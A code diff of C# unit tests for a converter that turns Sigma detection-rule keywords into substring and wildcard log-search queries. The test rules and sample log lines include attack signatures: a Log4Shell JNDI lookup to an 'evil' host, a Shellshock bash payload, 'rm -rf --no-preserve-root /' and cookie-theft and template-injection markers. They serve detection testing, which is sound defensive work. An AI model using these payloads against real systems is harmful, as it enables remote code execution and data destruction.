@@ -20,27 +20,39 @@ public class SigmaKeywordTests
     }
 
     [Fact]
-    public void PhraseKeyword_IsMatchedAsWords_AndThePartialSaysSo()
+    public void PhraseKeyword_IsASubstringOfTheWholeMessage()
     {
-        var c = SigmaSamples.Convert("keywords:\n    - 'stopping iptables'\n    - 'denied AXFR from'\ncondition: keywords", Syslog);
+        var c = SigmaSamples.Convert("keywords:\n    - 'stopping iptables'\n    - '${jndi:ldap:/'\ncondition: keywords", Syslog);
 
-        Assert.Equal(SigmaConversionStatus.Partial, c.Status);
-        Assert.Equal(@"source:syslog (stopping\ iptables OR denied\ AXFR\ from)", c.Query());
+        Assert.Equal(SigmaConversionStatus.Lossless, c.Status);
+        Assert.Empty(c.Diagnostics);
+        Assert.Equal(@"source:syslog (*stopping\ iptables* OR *$\{jndi\:ldap\:\/*)", c.Query());
         Assert.True(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host systemd[1]: Stopping iptables firewall...")));
-        var diagnostic = Assert.Single(c.Diagnostics);
-        Assert.Equal(SigmaDiagnosticKind.Inexact, diagnostic.Kind);
-        Assert.StartsWith("line ", diagnostic.Location, StringComparison.Ordinal);
-        Assert.EndsWith("detection.keywords", diagnostic.Location, StringComparison.Ordinal);
-        Assert.Contains("not as substrings", diagnostic.Message, StringComparison.Ordinal);
+        Assert.True(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host app[7]: GET /?x=${JNDI:LDAP://evil/a}")));
+        // Words are not enough: the keyword is one substring, punctuation included.
+        Assert.False(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host app[7]: stopping, iptables")));
+        Assert.False(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host app[7]: jndi ldap")));
     }
 
     [Fact]
-    public void KeywordWithWildcards_BecomesItsWordRuns()
+    public void KeywordWithWildcardsBetweenWords_IsPartial_EachWordMustAppear()
     {
         var c = SigmaSamples.Convert("keywords:\n    - 'Trojan*FOUND'\ncondition: keywords", "product: linux\nservice: clamav");
 
-        Assert.Equal("source:clamav Trojan FOUND", c.Query());
+        Assert.Equal("source:clamav *Trojan* *FOUND*", c.Query());
         Assert.Equal(SigmaConversionStatus.Partial, c.Status);
+        Assert.Contains(c.Diagnostics, d => d.Message.Contains("word by word", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void KeywordWithPunctuationAndWildcards_IsAPatternOverTheMessage()
+    {
+        var c = SigmaSamples.Convert("keywords:\n    - 'rm -rf * /'\ncondition: keywords", Syslog);
+
+        Assert.Equal(SigmaConversionStatus.Lossless, c.Status);
+        Assert.Equal(@"source:syslog *rm\ \-rf\ *\ \/*", c.Query());
+        Assert.True(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host sh[7]: rm -rf --no-preserve-root /")));
+        Assert.False(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host sh[7]: rm -r /tmp")));
     }
 
     [Fact]
@@ -59,28 +71,30 @@ public class SigmaKeywordTests
         var c = SigmaSamples.Convert("keywords:\n    - AssumeRole\ncondition: keywords");
 
         Assert.Equal(SigmaConversionStatus.Partial, c.Status);
-        Assert.Equal("source:cloudtrail AssumeRole", c.Query());
+        Assert.Equal("source:cloudtrail *AssumeRole*", c.Query());
+        Assert.Contains(c.Diagnostics, d => d.Message.Contains("not the whole record", StringComparison.Ordinal));
     }
 
     [Fact]
-    public void KeywordsWithoutWords_AreLeftOutOfAList_OrUnsupportedAlone()
+    public void KeywordsWithoutWords_AreSubstringsToo()
     {
-        var some = SigmaSamples.Convert("keywords:\n    - '={{'\n    - 'document.cookie'\ncondition: keywords", SigmaSamples.Webserver);
+        var list = SigmaSamples.Convert("keywords:\n    - '={{'\n    - 'document.cookie'\ncondition: keywords", SigmaSamples.Webserver);
         var alone = SigmaSamples.Convert("keywords:\n    - '() { :;};'\ncondition: keywords", Syslog);
 
-        Assert.Equal(SigmaConversionStatus.Partial, some.Status);
-        Assert.EndsWith(@" document.cookie", some.Query(), StringComparison.Ordinal);
-        Assert.Contains(some.Diagnostics, d => d.Message.Contains("'={{'", StringComparison.Ordinal));
-        Assert.Equal(SigmaConversionStatus.Unsupported, alone.Status);
+        Assert.Equal(SigmaConversionStatus.Lossless, list.Status);
+        Assert.EndsWith(@"(*\=\{\{* OR *document.cookie*)", list.Query(), StringComparison.Ordinal);
+        Assert.Equal(SigmaConversionStatus.Lossless, alone.Status);
+        Assert.True(alone.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host httpd[7]: User-Agent: () { :;}; /bin/bash -c id")));
+        Assert.False(alone.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host httpd[7]: User-Agent: curl/8.0")));
     }
 
     [Fact]
-    public void KeywordThatIsAnOperator_IsWrittenInLowerCase()
+    public void KeywordThatIsAnOperator_IsAPattern()
     {
-        // Full text is case-insensitive, and a lone AND would read as the operator.
-        var c = SigmaSamples.Convert("keywords:\n    - 'AND'\ncondition: keywords");
+        // A lone AND would read as the operator; as a pattern it is a word like any other.
+        var c = SigmaSamples.Convert("keywords:\n    - 'AND'\ncondition: keywords", "product: linux\nservice: cron");
 
-        Assert.Equal("source:cloudtrail and", c.Query());
-        Assert.True(c.Matches(SigmaSamples.CloudTrailEvent("""{"eventName":"x","message":"this AND that"}""")));
+        Assert.Equal("source:cron *AND*", c.Query());
+        Assert.True(c.Matches(IntakeSamples.Line("cron", "this AND that")));
     }
 }
